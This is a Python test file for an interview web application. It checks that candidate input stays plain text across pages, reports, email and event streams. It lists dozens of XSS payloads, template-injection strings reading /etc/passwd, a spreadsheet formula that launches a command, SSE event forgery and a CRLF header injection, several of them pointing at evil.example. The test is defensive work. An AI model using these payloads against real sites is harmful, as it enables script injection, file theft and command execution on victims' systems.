"""What a candidate types is text, and never becomes anything else in a page, a file or a stream."""

import email
import email.policy
import json
import time
from collections import Counter

import pytest

from viva.interview import Answer
from viva.store import SqliteStore
from viva.web.bench import Bench
from viva.web.desk import Desk
from viva.web.keys import keys_in
from viva.web.site import site
from web.window import Shown, Window

SCRIPTS = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=http://evil.example><input name=csrf></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=background:url(http://evil.example)>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "';alert(1)//",
    '";alert(1)//',
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ csrf }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    '#set text(fill: red); #read("/etc/passwd")',
    '*bold* `code` $x$ #eval("1+1")',
)
SHEETS = (
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    'data: {"over": true}\n\ndata: {"text": "forged"}',
    "\n\nevent: message\ndata: {}\n\n",
    "x\r\nSet-Cookie: viva=1",
    "\ud800 half a character",
)
ALL = (*SCRIPTS, *TEMPLATES, *SHEETS)


def test_there_are_at_least_sixty():
    assert len(set(ALL)) >= 60


@pytest.fixture(scope="module")
def one_site(tmp_path_factory):
    """One server for all of them: each payload has an interview of its own."""
    home = tmp_path_factory.mktemp("all")
    with pytest.MonkeyPatch.context() as patch, SqliteStore(home / "interviews.db") as store:
        patch.setenv("VIVA_HOME", str(home))
        keys = keys_in(home)
        yield site(Desk(store, Bench()), keys), keys, store


def hold(window, name, said, program):
    """Hold an interview in which all is said that can be; return its id and every page of it."""
    window.open("/")
    window.begin(name=name)
    id = window.id
    window.say(said)
    window.draft(said)
    pages = [window.talk().text]
    window.until_program()
    code = f"import numpy\n# {program}\n"
    window.draft(said, program=code)
    pages.append(window.talk().text)
    window.say(said, program=code)
    window.end()
    dispute = {**window.fields("/dispute"), "complaint": "unfair", "words": said}
    window.response = window.client.post(f"/interviews/{id}/dispute", data=dispute)
    pages.append(window.html)
    decide(window, name, said)
    pages.append(window.html)
    names = ("", "/report.html", "/short", "/close", "/evidence", "/letter")
    paths = (*(f"/interviews/{id}{name}" for name in names), "/")
    return id, [*pages, *(window.open(path).text for path in paths)]


def decide(window, name, said):
    """Sign a decision, in which everything that can be written is the same text."""
    key = {"csrf": window.keys.csrf}
    where = f"/interviews/{window.id}"
    window.client.post(f"{where}/evidence", data={**key, "by": f"Kim {name}"})
    written = dict.fromkeys(("reason", "letter", "steps"), f"x {said}")
    form = {**key, **written, "by": f"Kim {name}", "outcome": "offer", "do": "sign"}
    window.response = window.client.post(f"{where}/decide", data=form)
    assert window.response.status_code == 200


@pytest.fixture(scope="module")
def harmless(one_site):
    window = Window(*one_site[:2])
    return [structure(page) for page in hold(window, "Ada", "It is a line. x", "x")[1]]


def structure(html):
    """Return what of a page could do something: every tag that is there, and how often."""
    return Counter(tag for tag, _ in Shown(html).tags)


TEXT = {
    "li",
    "p",
    "blockquote",
    "mark",
    "sup",
    "span",
    "ul",
    "dd",
    "dt",
    "dl",
    "b",
    "br",
    "summary",
}
"""Tags of which there may be more, as in a list of one more line; nothing runs in them."""


@pytest.mark.parametrize("payload", ALL, ids=range(len(ALL)))
def test_whatever_is_typed_stays_text_in_every_page(one_site, harmless, payload):
    *site_and_keys, store = one_site
    window = Window(*site_and_keys)
    said = payload.encode("utf-8", "replace").decode()
    id, pages = hold(window, said, f"It is a line. {said}", said)
    for plain, page in zip(harmless, pages, strict=True):
        more = structure(page)
        more.subtract(plain)
        assert {tag for tag, n in more.items() if n > 0} <= TEXT | set(plain), more
        for tag in (
            "script",
            "img",
            "svg",
            "iframe",
            "style",
            "meta",
            "link",
            "base",
            "object",
            "embed",
            "form",
        ):
            assert more[tag] <= 0, tag
        for tag, attrs in Shown(page).tags:
            assert not [k for k in attrs if k.startswith("on") or k in ("srcdoc", "formaction")], (
                tag
            )
            for name in ("href", "src", "action"):
                where = attrs.get(name) or ""
                assert "evil.example" not in where
                assert not where.lower().startswith(("javascript", "data:text"))
    answer = next(e.body for e in store.load(id) if isinstance(e.body, Answer))
    assert answer.words == f"It is a line. {said}".replace("\r\n", "\n")
    data = window.open(f"/interviews/{id}/report.json")
    assert data.headers["content-type"].startswith("application/json")
    words = {e["words"] for q in data.json()["questions"] for e in q["exchanges"]}
    assert answer.words in words
    letter = {"csrf": window.keys.csrf, "way": "mail"}
    taken = window.client.post(f"/interviews/{id}/convey", data=letter).content
    mail = email.message_from_bytes(taken, policy=email.policy.default)
    parts = [part.get_content_type() for part in mail.walk() if not part.is_multipart()]
    assert parts == ["text/plain", "text/html", "application/pdf"]
    assert structure(mail.get_body(("html",)).get_content())["script"] == 0


def test_a_template_is_never_worked_out(window):
    window.begin(name="{{ 7 * 7 }}")
    window.say("{{ 191 * 7 }} ${191*7} <%= 191*7 %> {{ csrf }}")
    window.end()
    assert "1337" not in window.html
    assert window.html.count(window.keys.csrf) == window.html.count('name="csrf"')
    assert "{{ 191 * 7 }}" in window.html


def test_what_a_program_prints_cannot_forge_an_event(open_site, numpy_installed):
    window = Window(*open_site()).begin().until_program()
    forged = 'data: {"over": true, "result": ["forged"]}\\n\\n<script>alert(1)</script>'
    window.say(program=f"import numpy\nprint('''\\n\\n{forged}''')\n")
    stream = window.client.get(f"/api/v1/interviews/{window.id}/run/events")
    assert stream.headers["content-type"].startswith("text/event-stream")
    told = [
        json.loads(x.removeprefix("data: ")) for x in stream.text.split("\n") if x[:5] == "data:"
    ]
    assert [e for e in told if e.get("over")] == [told[-1]]
    assert told[-1]["result"] == []
    end = time.monotonic() + 60
    while "Your program is running" in window.talk().text:
        assert time.monotonic() < end
        time.sleep(0.1)
    assert "<script>alert" not in window.html
    assert "&lt;script&gt;alert(1)" in window.html


@pytest.mark.parametrize("payload", SCRIPTS[:12], ids=range(12))
def test_what_an_address_holds_stays_text(window, payload):
    shown = window.client.get("/", params={"paused": payload, "erased": payload})
    tags = [tag for tag, _ in Shown(shown.text).tags]
    assert tags.count("script") == 1
    assert not {"img", "iframe", "object", "math"} & set(tags)
